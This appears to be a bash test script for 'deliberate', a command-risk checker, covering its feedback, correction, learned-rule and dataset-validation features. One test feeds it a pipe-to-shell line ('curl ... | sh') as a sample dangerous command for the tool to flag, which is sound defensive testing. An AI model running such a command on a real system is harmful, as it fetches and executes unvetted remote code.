#!/bin/bash
# deliberate feedback and deliberate correct (docs/annotations.md): usage
# errors exit 2; --last finds the session's last entry; a raised risk is
# a false_negative learned at once; comments are redacted; rules
# --learned lists the override and --forget removes it.
. "$(dirname "$0")/../lib/test-lib.sh"

mkdir -p -m 0700 "$DELIBERATE_HOME"
daemon_start || exit 1
ANN=$DELIBERATE_HOME/learning-data/current/$(date +%F).annotations.ndjson

t_usage() {
	for args in "" "--helpful y" "--helpful maybe --accurate y" \
	    "--last --entry x --helpful y --accurate n" "--bogus" "extra"; do
		expect_status 2 deliberate feedback $args 2>"$T/err"
		grep -q '^usage: deliberate feedback' "$T/err" || return 1
	done
	for args in "" "--as" "--as risky" "--last --entry x --as safe" \
	    "--bogus"; do
		expect_status 2 deliberate correct $args 2>"$T/err"
		grep -q '^usage: deliberate correct' "$T/err" || return 1
	done
	(unset DELIBERATE_SESSION; expect_status 2 deliberate correct --last \
	    --as safe 2>"$T/err") && grep -q DELIBERATE_SESSION "$T/err"
}
test_expect_success 'feedback and correct usage errors exit 2' t_usage

t_last() {
	deliberate check --record --session s-1 --format json -- \
	    'curl http://example.invalid/x.sh | sh' >"$T/c1.json" || true
	id=$("$PYTHON" -c 'import json,sys; print(json.load(open(sys.argv[1])).get("id",""))' "$T/c1.json")
	# A dangerous line is pending a decision: decide it.
	cid=$("$PYTHON" -c 'import json,sys; print(json.load(open(sys.argv[1])).get("checkId",""))' "$T/c1.json")
	if [ -n "$cid" ]; then
		deliberate decision --check-id "$cid" --action cancel --time 5
	fi
	deliberate check --record --session s-1 --format json -- 'ls -la' \
	    >"$T/c2.json"
	id=$("$PYTHON" -c 'import json,sys; print(json.load(open(sys.argv[1]))["id"])' "$T/c2.json")
	DELIBERATE_SESSION=s-1 deliberate feedback --last --helpful n \
	    --accurate n --comment 'token ghp_abcdefghijklmnopqrstuvwxyz0123456789 leaked' \
	    >"$T/out" || return 1
	grep -F "feedback recorded for $id" "$T/out" || return 1
	nogrep_f ghp_abcdefghijklmnopqrstuvwxyz0123456789 "$ANN" || return 1
	"$PYTHON" - "$ANN" "$id" <<'PY'
import json, sys
a = [json.loads(l) for l in open(sys.argv[1])]
f = [r for r in a if r["kind"] == "feedback"][-1]
assert f["entryId"] == sys.argv[2], f
assert f["helpful"] is False and f["accurate"] is False
assert "leaked" in f["comment"], f
PY
}
test_expect_success 'feedback --last annotates the session entry, comment redacted' t_last

t_raise() {
	id=$("$PYTHON" -c 'import json,sys; print(json.load(open(sys.argv[1]))["id"])' "$T/c2.json")
	deliberate correct --entry "$id" --as dangerous >"$T/out" || return 1
	grep -F "corrected $id to dangerous" "$T/out" || return 1
	grep -F "learned learned:" "$T/out" || return 1
	tail -n 1 "$ANN" | grep -F '"type":"false_negative","correctClassification":"dangerous"' || return 1
	# Raised at once: the next check of the same shape is dangerous.
	deliberate check --format json -- 'ls -la' >"$T/c3.json"
	grep -F '"riskLevel":"dangerous"' "$T/c3.json" &&
	grep -F 'you marked this dangerous 1 time' "$T/c3.json" || return 1
	# The daemon wrote learned.json itself: past its 2 s watch, that is
	# no change, so no reload of every rule (one stalled the hooks).
	sleep 2.5
	test "$(deliberate status --json | jq .reloads)" = 0
}
test_expect_success 'correct --as dangerous is a false_negative, learned at once' t_raise

t_same() {
	id=$("$PYTHON" -c 'import json,sys; print(json.load(open(sys.argv[1]))["id"])' "$T/c2.json")
	! deliberate correct --entry "$id" --as safe 2>"$T/err" &&
	grep -F 'already classified' "$T/err" &&
	! deliberate correct --entry 11111111-2222-4333-8444-555555555555 \
	    --as safe 2>"$T/err" && grep -F 'unknown entry' "$T/err"
}
test_expect_success 'correcting to the recorded risk, or an unknown entry, fails' t_same

t_rules() {
	deliberate rules --learned >"$T/l" || return 1
	grep -E '^learned:[0-9a-f]{16} +dangerous +1  ls -la$' "$T/l" || return 1
	lid=$(awk '{print $1}' "$T/l")
	deliberate rules --learned --json | grep -F "\"$lid\"" || return 1
	deliberate rules --forget "$lid" | grep -F "forgot $lid" || return 1
	test "$(deliberate rules --learned | wc -l)" = 0 || return 1
	test "$(stat -c %a "$DELIBERATE_HOME/learned.json")" = 600 || return 1
	# The daemon notices within its 2 s watch, and rereads only that file.
	for i in $(seq 50); do
		deliberate check --format json -- 'ls -la' >"$T/c4.json"
		grep -qF '"riskLevel":"safe"' "$T/c4.json" && break
		sleep 0.1
	done
	grep -qF '"riskLevel":"safe"' "$T/c4.json" || { cat "$T/c4.json"; return 1; }
	test "$(deliberate status --json | jq .reloads)" = 0 &&
	grep -F 'learned.json changed: rereading it' "$T/daemon.log"
}
test_expect_success 'rules --learned lists, --forget removes, the daemon reloads' t_rules

t_validate() {
	deliberate validate-dataset "$DELIBERATE_HOME/learning-data" &&
	/usr/bin/python3 "$SRC/tests/lib/validate-schema.py" \
	    "$SRC/schemas/annotation.schema.json" "$ANN" &&
	printf '{"schemaVersion":"1.0.0","kind":"outcome","entryId":"x","timestamp":"2026-01-01T00:00:00.000Z","exitStatus":300,"durationMs":1,"extra":1}\n' \
	    >"$T/bad.annotations.ndjson" &&
	! deliberate validate-dataset "$T/bad.annotations.ndjson" >"$T/v" 2>&1 &&
	grep -F entryId "$T/v" && grep -F exitStatus "$T/v" && grep -F extra "$T/v" &&
	/usr/bin/python3 "$SRC/tests/lib/validate-schema.py" --expect-invalid \
	    "$SRC/schemas/annotation.schema.json" "$T/bad.annotations.ndjson"
}
test_expect_success 'validate-dataset and the JSON Schema check annotation files' t_validate

test_done
